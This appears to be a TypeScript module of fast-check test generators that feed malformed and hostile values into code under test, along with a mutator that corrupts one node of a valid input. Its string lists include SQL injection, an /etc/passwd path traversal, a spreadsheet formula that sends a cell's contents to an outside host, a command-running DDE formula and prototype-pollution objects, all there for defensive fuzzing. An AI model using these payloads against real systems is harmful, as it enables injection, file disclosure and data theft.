import fc from "fast-check";

// What an attacker, a buggy client or a broken network sends instead of the expected input.

const LONE_SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff"];

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "\u0000",
    "a\u0000b",
    ...LONE_SURROGATES,
    "x\ud800y",
    "\udfff\ud800",
    "\u0001\u0002\u001f",
    "\u007f",
    "\t",
    "\r\n",
    "\u2028\u2029",
    "\ufeff",
    "\uffff",
    "\u202eRTL",
    "0000-01-01",
    "9999-12-31",
    "2024-02-30",
    "+275760-09-13T00:00:00.000Z",
    "-271821-04-20",
    "-1",
    "NaN",
    "null",
    "__proto__",
    "constructor",
    "' OR 1=1 --",
    "%00",
    "%ED%A0%80",
    "../../etc/passwd",
    '=HYPERLINK("http://x?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "🙂".repeat(60),
    "e\u0301".repeat(200),
  ),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...LONE_SURROGATES, "\u0000"), fc.string({ maxLength: 10 })).map((p) => p.join("")),
  fc.integer({ min: 5_000, max: 40_000 }).map((n) => "é".repeat(n)),
);

export const nastyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(NaN, Infinity, -Infinity, -0, 2 ** 53 + 1, -(2 ** 53 + 1), Number.MAX_VALUE, -Number.MAX_VALUE, Number.MIN_VALUE, 1e21, 0.5, -1, 2 ** 31, 2 ** 63),
  fc.double(),
  fc.integer(),
);

export const nastyDate: fc.Arbitrary<Date> = fc.oneof(
  fc.constantFrom(8.64e15, -8.64e15, NaN, Date.parse("0000-01-01T00:00:00Z"), Date.parse("-000001-12-31T00:00:00Z"), Date.UTC(10000, 0, 1), 0, -1).map((t) => new Date(t)),
  fc.date(),
);

/** Nested arrays and objects, deep enough to trip recursive walkers. */
export const deepNesting: fc.Arbitrary<unknown> = fc.tuple(fc.integer({ min: 20, max: 2_000 }), fc.boolean()).map(([depth, asArray]) => {
  let v: unknown = "fond";
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
});

export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 2, arbitrary: nastyNumber },
  { weight: 2, arbitrary: nastyDate },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      undefined,
      true,
      false,
      {},
      [],
      [null],
      10n ** 40n,
      -1n,
      new Map([["a", 1]]),
      new Set([1, 1]),
      /re(gex)+/g,
      JSON.parse('{"__proto__": {"polluted": true}}'),
      { constructor: { prototype: { polluted: true } } },
    ),
  },
  { weight: 1, arbitrary: deepNesting },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 3, withDate: true, withMap: true, withSet: true, withBigInt: true, withNullPrototype: true }) },
);

type Path = Array<string | number>;
type Mutation =
  | { kind: "replace"; value: unknown }
  | { kind: "delete" }
  | { kind: "extraKey"; key: string; value: unknown }
  | { kind: "inject"; text: string; at: number };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: nastyValue.map((value): Mutation => ({ kind: "replace", value })) },
  { weight: 2, arbitrary: fc.constant<Mutation>({ kind: "delete" }) },
  {
    weight: 1,
    arbitrary: fc
      .record({ key: fc.oneof(fc.constantFrom("__proto__", "constructor", "id", "toString", "\u0000", "a.b"), fc.string({ maxLength: 8 })), value: nastyValue })
      .map((r): Mutation => ({ kind: "extraKey", ...r })),
  },
  {
    weight: 3,
    arbitrary: fc
      .record({ text: fc.constantFrom("\u0000", ...LONE_SURROGATES, "\u0007", "\u001b[31m", "\r", "\t", "\n", "=", "\uffff", "\u2028"), at: fc.nat() })
      .map((r): Mutation => ({ kind: "inject", ...r })),
  },
);

const isPlainObject = (v: unknown): v is Record<string, unknown> => typeof v === "object" && v !== null && !Array.isArray(v) && !(v instanceof Date) && !(v instanceof Map) && !(v instanceof Set) && !(v instanceof RegExp);

/** Every node of a JSON-like tree (the root is []). */
function nodePaths(v: unknown, path: Path = [], out: Path[] = []): Path[] {
  out.push(path);
  if (Array.isArray(v)) v.forEach((x, i) => nodePaths(x, [...path, i], out));
  else if (isPlainObject(v)) for (const [k, x] of Object.entries(v)) nodePaths(x, [...path, k], out);
  return out;
}

function apply(root: unknown, path: Path, m: Mutation): unknown {
  const copy = structuredClone(root);
  const edit = (node: unknown): unknown => {
    switch (m.kind) {
      case "replace":
        return m.value;
      case "inject":
        return typeof node === "string" ? node.slice(0, m.at % (node.length + 1)) + m.text + node.slice(m.at % (node.length + 1)) : m.text;
      case "extraKey":
        return isPlainObject(node) ? Object.defineProperty({ ...node }, m.key, { value: m.value, enumerable: true, writable: true, configurable: true }) : node;
      case "delete":
        return undefined;
    }
  };
  if (path.length === 0) return edit(copy);
  let parent: unknown = copy;
  for (const step of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[step];
  const last = path[path.length - 1]!;
  const container = parent as Record<string | number, unknown>;
  const next = edit(container[last]);
  if (m.kind === "delete" && !Array.isArray(container)) delete container[last];
  else container[last] = next;
  return copy;
}

/** A valid-shaped value with one node broken: replaced, removed, given an extra key, or with a bad character slipped in. */
export function mutatedFrom(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return valid.chain((v) => fc.tuple(fc.constantFrom(...nodePaths(v)), mutation).map(([path, m]) => apply(v, path, m)));
}
